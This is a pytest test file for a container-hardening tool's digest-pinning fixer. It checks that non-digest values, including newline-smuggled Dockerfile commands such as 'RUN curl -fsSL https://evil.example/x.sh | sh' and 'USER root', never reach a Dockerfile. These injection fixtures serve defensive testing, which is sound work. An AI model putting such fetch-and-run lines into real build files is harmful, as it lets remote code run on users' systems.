"""Issue 18, `fix` input and the credential gate: digests from `--digests` or a registry are
written only when they are digests; credentials given as command-line arguments (`curl -u`,
`mysql -p`, `--api-key`, ...) are masked wherever a line is shown (reports, fix diffs, decisions,
`preview_fix`), while `fix --write` still writes the file's real bytes."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from conftest import run_cli, write_tree
from mcpharden.fixes.plan import plan_fixes
from mcpharden.scan import ScanOptions

DIGEST = "sha256:" + "0123456789abcdef" * 4
CURL_PASSWORD = "s3cr3tP4ss"
API_KEY = "sk-live-51HqLyj"  # too short for the token shape: only the option tells it is a key
PINNABLE = "FROM node:22\nUSER node\nCMD [\"node\", \"server.js\"]\n"


# Digests: only `sha256:` + 64 lowercase hex digits reach a file ----------------------------------


@pytest.mark.parametrize("value", [
    DIGEST + "\nRUN curl -fsSL https://evil.example/x.sh | sh",
    DIGEST + "\rUSER root",
    DIGEST.upper().replace("SHA256", "sha256"),
    "sha512:" + "ab" * 64,
    "sha256:1234",
    DIGEST + " ",
    12,
])
def test_digests_file_with_anything_but_a_digest_is_refused_and_nothing_written(tmp_path, value):
    repo = write_tree(tmp_path / "repo", {"Dockerfile": PINNABLE})
    digests = tmp_path / "digests.json"
    digests.write_text(json.dumps({"node:22": value}))
    for mode in ((), ("--write",)):
        result = run_cli("fix", str(repo), "--select", "image-not-pinned-by-digest", "--digests", str(digests), *mode)
        assert result.returncode == 2 and "Traceback" not in result.stderr
        assert "not a sha256 digest" in result.stderr and '"node:22"' in result.stderr
        assert result.stdout == ""
        assert len(result.stderr.splitlines()) == 1  # the hostile value is shown escaped, on the error's line
    assert (repo / "Dockerfile").read_text() == PINNABLE


@pytest.mark.parametrize("key", ["node:22\nRUN curl https://evil.example/x | sh", "node:22\rUSER root", "", "node :22",
                                 "a" * 600])
def test_digests_keys_must_be_image_references(tmp_path, key):
    repo = write_tree(tmp_path / "repo", {"Dockerfile": PINNABLE})
    digests = tmp_path / "digests.json"
    digests.write_text(json.dumps({"node:22": DIGEST, key: DIGEST}))
    result = run_cli("fix", str(repo), "--digests", str(digests), "--write")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "not an image reference" in result.stderr and len(result.stderr.splitlines()) == 1
    assert (repo / "Dockerfile").read_text() == PINNABLE


def test_a_valid_digests_file_still_pins(tmp_path):
    repo = write_tree(tmp_path / "repo", {"Dockerfile": PINNABLE})
    digests = tmp_path / "digests.json"
    digests.write_text(json.dumps({"node:22": DIGEST, "ghcr.io/github/github-mcp-server:latest": DIGEST,
                                   "127.0.0.1:5000/mcp/weather:1.2.0": DIGEST, "[::1]:5000/x/y": DIGEST}))
    result = run_cli("fix", str(repo), "--select", "image-not-pinned-by-digest", "--digests", str(digests), "--write")
    assert result.returncode == 0, result.stderr
    assert (repo / "Dockerfile").read_text().splitlines()[0] == f"FROM node:22@{DIGEST}"


@pytest.mark.parametrize("distroless", [False, True])
def test_a_resolver_answer_that_is_not_a_digest_never_reaches_the_file(tmp_path, distroless):
    """Every way a digest enters a fix (the Dockerfile fixer, the distroless rewrite that pins
    the images it names) takes the registry's answer through one check."""
    write_tree(tmp_path, {"Dockerfile": "FROM node:22\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev\n"
                                        "COPY . .\nCMD [\"node\", \"server.js\"]\n", "package.json": "{}"})
    asked = []

    def hostile(reference: str) -> str:
        asked.append(reference)
        return DIGEST + "\nUSER root"

    report = plan_fixes(tmp_path, ScanOptions(), {}, hostile, distroless)
    assert asked  # the resolver was asked, so the check had something to refuse
    assert all("USER root" not in plan.fixed_text() and "@sha256" not in plan.fixed_text() for plan in report.plans)
    refused = [d for d in report.decisions if d.rule_id == "image-not-pinned-by-digest"]
    assert refused and all("not a sha256 digest" in d.message for d in refused)


class _HostileRegistry(BaseHTTPRequestHandler):
    """Answers a manifest HEAD with a digest that is not one (upper-case hexadecimal)."""

    def do_HEAD(self):
        self.send_response(200)
        self.send_header("Docker-Content-Digest", "sha256:" + "ABCDEF0123456789" * 4)
        self.end_headers()

    def log_message(self, *args):
        pass


def test_fix_resolve_against_a_registry_that_answers_no_digest_writes_nothing(tmp_path):
    server = HTTPServer(("127.0.0.1", 0), _HostileRegistry)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        image = f"127.0.0.1:{server.server_address[1]}/mcp/weather:1"
        dockerfile = f"FROM {image}\nUSER 65532\n"
        repo = write_tree(tmp_path / "repo", {"Dockerfile": dockerfile})
        result = run_cli("fix", str(repo), "--select", "image-not-pinned-by-digest", "--resolve", "--write")
    finally:
        server.shutdown()
    assert result.returncode == 0 and "Traceback" not in result.stderr
    assert "Not fixed automatically" in result.stderr and image in result.stderr
    assert (repo / "Dockerfile").read_text() == dockerfile
